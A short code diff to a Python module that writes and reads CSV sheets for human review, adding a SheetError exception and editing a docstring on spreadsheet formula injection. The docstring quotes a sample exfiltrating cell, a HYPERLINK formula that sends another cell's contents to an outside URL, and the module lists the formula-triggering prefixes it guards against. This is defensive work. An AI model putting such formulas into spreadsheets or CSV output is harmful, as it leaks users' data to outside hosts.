@@ -1,4 +1,4 @@
-"""CSV sheets a person opens in a spreadsheet (the judge audit's), written and read in one place.
+"""CSV sheets a person opens in a spreadsheet (the audits'), written and read in one place.
 
 A cell a spreadsheet would evaluate as a formula (one that begins with ``=``, ``+``, ``-``, ``@``, a
 tab or a carriage return: an answer ``=HYPERLINK("http://...?ref="&C2, "see")`` would send the
@@ -14,6 +14,11 @@ from collections.abc import Iterable, Iterator, Sequence
 from pathlib import Path
 
 _FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
+class SheetError(ValueError):
+    """A filled-in sheet or its key file that cannot be read; the message names file and row."""
+
 _QUOTE = "'"
 
 
